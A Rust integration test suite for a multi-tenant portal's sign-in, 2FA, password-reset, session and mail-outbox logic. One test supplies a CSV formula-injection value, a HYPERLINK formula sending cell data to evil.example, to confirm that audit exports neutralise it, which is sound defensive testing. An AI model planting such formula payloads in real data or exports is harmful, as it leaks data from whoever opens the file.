//! The foundation's services end to end at the domain level, on SQLite and PostgreSQL.

// Tests: a failed step should stop the test, loudly.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use domain::auth;
use domain::clock::{HOUR_MS, MINUTE_MS};
use domain::on_both_databases;
use domain::sessions::{self, Stage};
use domain::setup::{self, FirstInstance};
use domain::testkit::{SmtpSink, TestDb};
use domain::tokens::Purpose;
use domain::totp;
use domain::users::{self, NewUser, UserStatus};
use domain::{ClientInfo, DomainError, Portal};
use model::auth::LoginStep;
use model::{AppError, Role};

const EMAIL: &str = "owner@acme.example";
const PASSWORD: &str = "Correct-Horse-9";

static CLIENT: std::sync::LazyLock<ClientInfo> = std::sync::LazyLock::new(|| ClientInfo {
    ip: Some("192.0.2.7".into()),
    user_agent: Some("test".into()),
});

fn client() -> &'static ClientInfo {
    &CLIENT
}

fn rejected(result: Result<impl std::fmt::Debug, DomainError>) -> AppError {
    match result {
        Err(DomainError::Rejected(e)) => e,
        other => panic!("expected a refusal, got {other:?}"),
    }
}

fn form(homerealm: &str) -> FirstInstance {
    FirstInstance {
        homerealm: homerealm.into(),
        display_name: "Acme IT".into(),
        email: EMAIL.into(),
        password: PASSWORD.into(),
        confirm: PASSWORD.into(),
    }
}

fn token_of(url: &str) -> String {
    url.split("token=").nth(1).expect("token in URL").to_owned()
}

fn link_token(body: &str) -> String {
    body.split("token=")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .expect("link in mail")
        .to_owned()
}

async fn session(portal: &Portal, token: &str) -> sessions::Session {
    let mut conn = portal.db.pool.acquire().await.unwrap();
    sessions::resolve(&mut conn, token, portal.now(), &portal.sessions)
        .await
        .unwrap()
        .expect("live session")
}

async fn try_session(portal: &Portal, token: &str) -> Option<sessions::Session> {
    let mut conn = portal.db.pool.acquire().await.unwrap();
    sessions::resolve(&mut conn, token, portal.now(), &portal.sessions)
        .await
        .unwrap()
}

async fn newest_mail(portal: &Portal) -> model::outbox::OutboxMail {
    let mut conn = portal.db.pool.acquire().await.unwrap();
    let instance = domain::instances::find_by_homerealm(&mut conn, "acme")
        .await
        .unwrap()
        .unwrap();
    domain::outbox::list(&mut conn, instance.id, 1)
        .await
        .unwrap()
        .remove(0)
}

/// The instance "acme" and its owner, as set up by [`set_up`].
async fn owner(portal: &Portal) -> (i64, users::User) {
    let mut conn = portal.db.pool.acquire().await.unwrap();
    let instance = domain::instances::find_by_homerealm(&mut conn, "acme")
        .await
        .unwrap()
        .unwrap();
    let user = users::find_by_email(&mut conn, instance.id, EMAIL)
        .await
        .unwrap()
        .unwrap();
    (instance.id, user)
}

/// First run plus TOTP enrolment; returns the secret and recovery codes.
async fn set_up(portal: &Portal) -> (String, Vec<String>) {
    let url = setup::issue_setup_url(portal).await.unwrap();
    let token = setup::complete_first_run(portal, &token_of(&url), &form("acme"), client())
        .await
        .unwrap();
    let pending = session(portal, &token).await;
    let enrolment = auth::begin_enrolment(portal, &pending).await.unwrap();
    let code = totp::code_at_step(&enrolment.secret, totp::step_at(portal.now())).unwrap();
    let (full, codes) = auth::confirm_enrolment(portal, &pending, &code, client())
        .await
        .unwrap();
    assert_eq!(session(portal, &full).await.stage, Stage::Full);
    (enrolment.secret, codes.codes)
}

async fn password_step(portal: &Portal, password: &str) -> Result<(String, LoginStep), DomainError> {
    auth::sign_in_with_password(portal, "acme", EMAIL, password, client()).await
}

on_both_databases!(
    first_run_creates_one_instance_and_voids_its_token,
    |t: TestDb| async move {
        let (portal, _clock) = t.portal();
        assert!(setup::needs_setup(&portal).await.unwrap());
        let url = setup::issue_setup_url(&portal).await.unwrap();
        assert!(url.starts_with("http://portal.test/setup?token="));
        let bad = rejected(setup::complete_first_run(&portal, "forged", &form("acme"), client()).await);
        assert!(bad.to_string().contains("not valid"), "{bad}");
        let weak = FirstInstance {
            password: "short".into(),
            confirm: "short".into(),
            ..form("acme")
        };
        let weak = rejected(setup::complete_first_run(&portal, &token_of(&url), &weak, client()).await);
        assert_eq!(weak.field(), Some("password"));
        assert!(
            setup::needs_setup(&portal).await.unwrap(),
            "bad input changes nothing"
        );

        let token = setup::complete_first_run(&portal, &token_of(&url), &form("acme"), client())
            .await
            .unwrap();
        assert_eq!(session(&portal, &token).await.stage, Stage::Enrol);
        assert!(!setup::needs_setup(&portal).await.unwrap());
        let again =
            rejected(setup::complete_first_run(&portal, &token_of(&url), &form("other"), client()).await);
        assert!(again.to_string().contains("already been completed"), "{again}");
    }
);

on_both_databases!(totp_login_accepts_each_code_once, |t: TestDb| async move {
    let (portal, clock) = t.portal();
    let (secret, _) = set_up(&portal).await;
    let (token, step) = password_step(&portal, PASSWORD).await.unwrap();
    assert_eq!(step, LoginStep::SecondFactor { email: EMAIL.into() });
    let pending = session(&portal, &token).await;
    assert_eq!(pending.stage, Stage::SecondFactor);

    // The enrolment used the current step: its code cannot be replayed.
    let used = totp::code_at_step(&secret, totp::step_at(portal.now())).unwrap();
    let replay = rejected(auth::verify_second_factor(&portal, &pending, &used, client()).await);
    assert_eq!(replay.field(), Some("code"));

    clock.advance(30_000);
    let fresh = totp::code_at_step(&secret, totp::step_at(portal.now())).unwrap();
    let full = auth::verify_second_factor(&portal, &pending, &fresh, client())
        .await
        .unwrap();
    assert_eq!(session(&portal, &full).await.stage, Stage::Full);
    assert!(
        try_session(&portal, &token).await.is_none(),
        "the pre-2FA token is worthless after sign-in"
    );

    let (token, _) = password_step(&portal, PASSWORD).await.unwrap();
    let pending = session(&portal, &token).await;
    assert!(
        auth::verify_second_factor(&portal, &pending, &fresh, client())
            .await
            .is_err(),
        "same code twice"
    );
});

on_both_databases!(a_recovery_code_works_once, |t: TestDb| async move {
    let (portal, _clock) = t.portal();
    let (_, codes) = set_up(&portal).await;
    assert_eq!(codes.len(), 10);
    let (token, _) = password_step(&portal, PASSWORD).await.unwrap();
    let pending = session(&portal, &token).await;
    let typed = codes[3].to_uppercase().replace('-', " ");
    auth::verify_second_factor(&portal, &pending, &typed, client())
        .await
        .unwrap();

    let (token, _) = password_step(&portal, PASSWORD).await.unwrap();
    let pending = session(&portal, &token).await;
    assert!(
        auth::verify_second_factor(&portal, &pending, &codes[3], client())
            .await
            .is_err()
    );
    auth::verify_second_factor(&portal, &pending, &codes[4], client())
        .await
        .unwrap();
});

on_both_databases!(
    eight_wrong_codes_lock_2fa_until_an_admin_resets_it,
    |t: TestDb| async move {
        let (portal, _clock) = t.portal();
        let (_, codes) = set_up(&portal).await;
        let (token, _) = password_step(&portal, PASSWORD).await.unwrap();
        let pending = session(&portal, &token).await;
        for attempt in 1..=7 {
            let e = rejected(auth::verify_second_factor(&portal, &pending, "000000", client()).await);
            assert!(
                e.to_string()
                    .contains(&format!("{} more wrong codes", 8 - attempt)),
                "{e}"
            );
        }
        let locked = rejected(auth::verify_second_factor(&portal, &pending, "000000", client()).await);
        assert!(locked.to_string().contains("locked"), "{locked}");
        let still = rejected(auth::verify_second_factor(&portal, &pending, &codes[0], client()).await);
        assert!(
            still.to_string().contains("locked"),
            "a right code does not unlock it"
        );
        assert!(
            rejected(password_step(&portal, PASSWORD).await)
                .to_string()
                .contains("locked")
        );

        auth::admin_reset_second_factor(&portal, "acme", EMAIL, "cli")
            .await
            .unwrap();
        let (_, step) = password_step(&portal, PASSWORD).await.unwrap();
        assert_eq!(
            step,
            LoginStep::EnrolTotp { email: EMAIL.into() },
            "re-enrols after a reset"
        );
    }
);

on_both_databases!(
    wrong_passwords_are_throttled_per_account,
    |t: TestDb| async move {
        let (portal, clock) = t.portal();
        set_up(&portal).await;
        for _ in 0..4 {
            assert_eq!(
                rejected(password_step(&portal, "Wrong-pass-1").await).field(),
                Some("password")
            );
        }
        let blocked = rejected(password_step(&portal, "Wrong-pass-1").await);
        assert_eq!(
            blocked,
            AppError::Throttled {
                retry_after_secs: 900
            }
        );
        assert!(matches!(
            rejected(password_step(&portal, PASSWORD).await),
            AppError::Throttled { .. }
        ));
        // An unknown address is throttled the same way, so blocks reveal nothing.
        let ghost = || auth::sign_in_with_password(&portal, "acme", "ghost@acme.example", "Nope-1", client());
        for _ in 0..4 {
            assert!(ghost().await.is_err());
        }
        assert!(matches!(rejected(ghost().await), AppError::Throttled { .. }));

        clock.advance(15 * MINUTE_MS);
        password_step(&portal, PASSWORD)
            .await
            .expect("the block lifts after 15 minutes");
    }
);

on_both_databases!(
    password_reset_link_works_once_within_an_hour,
    |t: TestDb| async move {
        let (portal, clock) = t.portal();
        set_up(&portal).await;
        auth::request_password_reset(&portal, "acme", "nobody@acme.example", client())
            .await
            .unwrap();
        auth::request_password_reset(&portal, "acme", EMAIL, client())
            .await
            .unwrap();
        let mut conn = portal.db.pool.acquire().await.unwrap();
        let instance = domain::instances::find_by_homerealm(&mut conn, "acme")
            .await
            .unwrap()
            .unwrap();
        let mails = domain::outbox::list(&mut conn, instance.id, 10).await.unwrap();
        assert_eq!(mails.len(), 1, "only the real account gets mail");
        assert_eq!(mails[0].recipient, EMAIL);
        let token = link_token(&mails[0].body);

        let weak = rejected(
            auth::set_password_from_link(&portal, Purpose::PasswordReset, &token, "weak", "weak", client())
                .await,
        );
        assert_eq!(weak.field(), Some("password"));
        auth::set_password_from_link(
            &portal,
            Purpose::PasswordReset,
            &token,
            "New-Password-1",
            "New-Password-1",
            client(),
        )
        .await
        .unwrap();
        let reused = rejected(
            auth::set_password_from_link(
                &portal,
                Purpose::PasswordReset,
                &token,
                "Other-Pass-1",
                "Other-Pass-1",
                client(),
            )
            .await,
        );
        assert!(reused.to_string().contains("already been used"), "{reused}");
        assert!(password_step(&portal, PASSWORD).await.is_err());
        password_step(&portal, "New-Password-1").await.unwrap();

        auth::request_password_reset(&portal, "acme", EMAIL, client())
            .await
            .unwrap();
        let token = link_token(&newest_mail(&portal).await.body);
        clock.advance(HOUR_MS);
        let expired = rejected(
            auth::set_password_from_link(
                &portal,
                Purpose::PasswordReset,
                &token,
                "Later-Pass-1",
                "Later-Pass-1",
                client(),
            )
            .await,
        );
        assert!(expired.to_string().contains("expired"), "{expired}");
    }
);

on_both_databases!(
    activation_sets_the_first_password_within_48_hours,
    |t: TestDb| async move {
        let (portal, clock) = t.portal();
        set_up(&portal).await;
        let mut conn = portal.db.pool.acquire().await.unwrap();
        let instance = domain::instances::find_by_homerealm(&mut conn, "acme")
            .await
            .unwrap()
            .unwrap();
        let invited = NewUser {
            instance_id: instance.id,
            email: "tech@acme.example",
            role: Role::Monitor,
            status: UserStatus::PendingActivation,
            password_hash: None,
            global_scope: false,
        };
        let id = users::insert(&mut conn, invited, portal.now()).await.unwrap();
        let user = users::get(&mut conn, id).await.unwrap().unwrap();
        auth::send_activation(&mut conn, &portal, &user, &instance)
            .await
            .unwrap();
        let mail = newest_mail(&portal).await;
        assert_eq!(mail.subject, "Activate your Backplane account");
        let token = link_token(&mail.body);
        let tech = |password: &'static str| {
            auth::sign_in_with_password(&portal, "acme", "tech@acme.example", password, client())
        };

        assert!(
            tech("Tech-Pass-1").await.is_err(),
            "no password before activation"
        );
        clock.advance(47 * HOUR_MS);
        auth::set_password_from_link(
            &portal,
            Purpose::Activation,
            &token,
            "Tech-Pass-1",
            "Tech-Pass-1",
            client(),
        )
        .await
        .unwrap();
        assert_eq!(
            users::get(&mut conn, id).await.unwrap().unwrap().status,
            UserStatus::Active
        );
        let (_, step) = tech("Tech-Pass-1").await.unwrap();
        assert_eq!(
            step,
            LoginStep::EnrolTotp {
                email: "tech@acme.example".into()
            }
        );

        auth::send_activation(&mut conn, &portal, &user, &instance)
            .await
            .unwrap();
        let token = link_token(&newest_mail(&portal).await.body);
        clock.advance(48 * HOUR_MS);
        let expired = rejected(
            auth::set_password_from_link(
                &portal,
                Purpose::Activation,
                &token,
                "Tech-Pass-2",
                "Tech-Pass-2",
                client(),
            )
            .await,
        );
        assert!(expired.to_string().contains("expired"), "{expired}");
    }
);

on_both_databases!(sessions_end_when_idle_or_signed_out, |t: TestDb| async move {
    let (portal, clock) = t.portal();
    let (secret, _) = set_up(&portal).await;
    let login = |offset: i64| {
        let (portal, secret) = (portal.clone(), secret.clone());
        async move {
            let (token, _) = password_step(&portal, PASSWORD).await.unwrap();
            let pending = session(&portal, &token).await;
            let code = totp::code_at_step(&secret, totp::step_at(portal.now()) + offset).unwrap();
            auth::verify_second_factor(&portal, &pending, &code, client())
                .await
                .unwrap()
        }
    };
    let token = login(1).await;
    clock.advance(59 * MINUTE_MS);
    session(&portal, &token).await; // alive, and the idle timer restarts
    clock.advance(59 * MINUTE_MS);
    let s = session(&portal, &token).await;
    clock.advance(61 * MINUTE_MS);
    assert!(
        try_session(&portal, &token).await.is_none(),
        "idle for over an hour"
    );

    let token = login(0).await;
    let s2 = session(&portal, &token).await;
    auth::sign_out(&portal, &s2, client()).await.unwrap();
    assert!(try_session(&portal, &token).await.is_none(), "signed out");
    let mut conn = portal.db.pool.acquire().await.unwrap();
    let actions = domain::audit::actions(&mut conn, s.instance_id).await.unwrap();
    for expected in [
        "instance.created",
        "user.totp_enrolled",
        "login.success",
        "logout",
    ] {
        assert!(actions.iter().any(|a| a == expected), "{expected} in {actions:?}");
    }
});

on_both_databases!(two_instances_share_nothing, |t: TestDb| async move {
    let (portal, _clock) = t.portal();
    set_up(&portal).await;
    let other = setup::create_instance_headless(&portal, "globex", "Globex", EMAIL, "Other-Pass-1")
        .await
        .unwrap();
    assert!(
        auth::sign_in_with_password(&portal, "globex", EMAIL, PASSWORD, client())
            .await
            .is_err()
    );
    assert!(
        auth::sign_in_with_password(&portal, "acme", EMAIL, "Other-Pass-1", client())
            .await
            .is_err()
    );
    let (token, _) = auth::sign_in_with_password(&portal, "globex", EMAIL, "Other-Pass-1", client())
        .await
        .unwrap();
    let s = session(&portal, &token).await;
    assert_eq!(
        (s.homerealm.as_str(), s.instance_id),
        ("globex", other.instance.id)
    );
    let code = totp::code_at_step(&other.totp_secret, totp::step_at(portal.now())).unwrap();
    auth::verify_second_factor(&portal, &s, &code, client())
        .await
        .unwrap();
    assert_eq!(
        auth::first_login_step(&portal).await.unwrap(),
        LoginStep::Homerealm,
        "two instances: ask the homerealm"
    );
    let unknown = rejected(auth::choose_homerealm(&portal, "initech", client()).await);
    assert_eq!(unknown.field(), Some("homerealm"));
});

on_both_databases!(
    outbox_mail_is_delivered_over_smtp_and_retried_on_failure,
    |t: TestDb| async move {
        let (portal, clock) = t.portal();
        set_up(&portal).await;
        auth::request_password_reset(&portal, "acme", EMAIL, client())
            .await
            .unwrap();

        let refused =
            domain::outbox::Mailer::new("smtp://127.0.0.1:1", "Backplane <noreply@portal.test>").unwrap();
        assert_eq!(
            domain::outbox::deliver_due(&portal.db, &refused, portal.now())
                .await
                .unwrap(),
            0
        );
        let mail = newest_mail(&portal).await;
        assert_eq!(
            (mail.status, mail.attempts),
            (model::outbox::MailStatus::Queued, 1)
        );
        assert!(mail.last_error.is_some());

        let sink = SmtpSink::start().await;
        let mailer = domain::outbox::Mailer::new(&sink.url(), "Backplane <noreply@portal.test>").unwrap();
        assert_eq!(
            domain::outbox::deliver_due(&portal.db, &mailer, portal.now())
                .await
                .unwrap(),
            0,
            "backing off"
        );
        clock.advance(31_000);
        assert_eq!(
            domain::outbox::deliver_due(&portal.db, &mailer, portal.now())
                .await
                .unwrap(),
            1
        );
        assert_eq!(
            domain::outbox::deliver_due(&portal.db, &mailer, portal.now())
                .await
                .unwrap(),
            0,
            "sent once"
        );
        let messages = sink.messages();
        assert_eq!(messages.len(), 1);
        assert!(
            messages[0].contains("Subject: Reset your Backplane password"),
            "{}",
            messages[0]
        );
        assert!(
            messages[0].contains(&format!("Message-ID: <outbox-{}@portal.test>", mail.id)),
            "{}",
            messages[0]
        );
        assert_eq!(newest_mail(&portal).await.status, model::outbox::MailStatus::Sent);
    }
);

// Whatever a stranger types at login lands in the audit log as the actor: capped in length,
// and exported so that a spreadsheet shows it as text, never runs it as a formula.
on_both_databases!(
    typed_actors_are_capped_and_exported_inert,
    |t: TestDb| async move {
        let (portal, _clock) = t.portal();
        set_up(&portal).await;
        let typed = format!("=HYPERLINK(\"http://evil.example/?\"&A1){}", "x".repeat(2000));
        let refused = auth::sign_in_with_password(&portal, "acme", &typed, "wrong", client()).await;
        assert!(refused.is_err());
        let (instance_id, owner) = owner(&portal).await;
        let mut conn = portal.db.pool.acquire().await.unwrap();
        let root = domain::access::Viewer {
            instance_id,
            user_id: owner.id,
            email: EMAIL.into(),
            role: Role::Superuser,
            global_scope: true,
        };
        let query = model::tenancy::AuditQuery::default();
        let records = domain::audit::search(&mut conn, &root, &query, 10).await.unwrap();
        let failure = records.iter().find(|r| r.action == "login.failure").unwrap();
        assert_eq!(failure.actor.chars().count(), 254);
        let csv = domain::audit::to_csv(&records).unwrap();
        let line = csv.lines().find(|l| l.contains("login.failure")).unwrap();
        let actor_cell = line.split(',').nth(1).unwrap();
        assert!(
            actor_cell.to_lowercase().starts_with("\"'=hyperlink"),
            "{actor_cell}"
        );
        assert!(
            !csv.lines()
                .any(|l| l.split(',').any(|cell| cell.starts_with('=')))
        );
    }
);

// Guesses sent in parallel are each counted before their secret is checked, so no more of
// them are checked than the limit allows, however many connections the pool has.
on_both_databases!(parallel_guesses_never_outrun_the_limits, |t: TestDb| async move {
    let (portal, _clock) = t.portal();
    set_up(&portal).await;
    let mut guesses = tokio::task::JoinSet::new();
    for _ in 0..24 {
        let portal = portal.clone();
        guesses.spawn(async move { password_step(&portal, "Wrong-pass-1").await });
    }
    let mut checked = 0;
    while let Some(outcome) = guesses.join_next().await {
        match rejected(outcome.unwrap()) {
            AppError::Throttled { .. } => {}
            wrong => {
                assert_eq!(wrong.field(), Some("password"), "{wrong:?}");
                checked += 1;
            }
        }
    }
    assert!(checked <= 5, "{checked} passwords checked of 24 parallel guesses");

    let (_, user) = owner(&portal).await;
    let mut conn = portal.db.pool.acquire().await.unwrap();
    let token = sessions::create(
        &mut conn,
        user.id,
        Stage::SecondFactor,
        client(),
        portal.now(),
        &portal.sessions,
    )
    .await
    .unwrap();
    drop(conn);
    let pending = session(&portal, &token).await;
    let mut codes = tokio::task::JoinSet::new();
    for _ in 0..24 {
        let (portal, pending) = (portal.clone(), pending.clone());
        codes.spawn(async move { auth::verify_second_factor(&portal, &pending, "000000", client()).await });
    }
    let mut checked = 0;
    while let Some(outcome) = codes.join_next().await {
        if rejected(outcome.unwrap()).field() == Some("code") {
            checked += 1;
        }
    }
    assert!(checked < 8, "{checked} codes checked of 24 parallel guesses");
});

// Resetting a password asks for at most three mails an hour per account and ten requests per
// address, and answers known and unknown addresses after the same time; an administrator's
// password or 2FA reset voids the links already sent.
on_both_databases!(
    password_reset_requests_are_limited_timed_alike_and_voided_by_admins,
    |t: TestDb| async move {
        let (portal, _clock) = t.portal();
        set_up(&portal).await;
        let elsewhere = ClientInfo {
            ip: Some("198.51.100.20".into()),
            user_agent: None,
        };
        for address in [EMAIL, "nobody@acme.example"] {
            let started = std::time::Instant::now();
            auth::request_password_reset(&portal, "acme", address, &elsewhere)
                .await
                .unwrap();
            assert!(
                started.elapsed() >= std::time::Duration::from_millis(500),
                "{address}"
            );
        }
        for _ in 0..3 {
            auth::request_password_reset(&portal, "acme", EMAIL, &elsewhere)
                .await
                .unwrap();
        }
        let sent = |portal: Portal| async move {
            let mut conn = portal.db.pool.acquire().await.unwrap();
            let instance = domain::instances::find_by_homerealm(&mut conn, "acme")
                .await
                .unwrap()
                .unwrap();
            domain::outbox::list(&mut conn, instance.id, 100)
                .await
                .unwrap()
                .into_iter()
                .filter(|m| m.subject.contains("Reset"))
                .collect::<Vec<_>>()
        };
        assert_eq!(
            sent(portal.clone()).await.len(),
            3,
            "three mails an hour per account"
        );
        for _ in 0..5 {
            assert!(
                auth::request_password_reset(&portal, "acme", "x@acme.example", &elsewhere)
                    .await
                    .is_ok()
            );
        }
        let blocked =
            rejected(auth::request_password_reset(&portal, "acme", "y@acme.example", &elsewhere).await);
        assert!(matches!(blocked, AppError::Throttled { .. }), "{blocked:?}");

        let link = link_token(&sent(portal.clone()).await[0].body);
        auth::check_link(&portal, domain::tokens::Purpose::PasswordReset, &link)
            .await
            .expect("the newest link works");
        let (instance_id, owner) = owner(&portal).await;
        let admin = domain::testkit::add_user(
            &mut portal.db.pool.acquire().await.unwrap(),
            instance_id,
            "second-root@acme.example",
            Role::Superuser,
            true,
        )
        .await;
        domain::user_admin::set_password(
            &portal,
            &admin,
            owner.id,
            "Admin-Set-1234",
            "Admin-Set-1234",
            client(),
        )
        .await
        .unwrap();
        assert!(
            auth::check_link(&portal, domain::tokens::Purpose::PasswordReset, &link)
                .await
                .is_err(),
            "the administrator's reset voided the link"
        );
    }
);
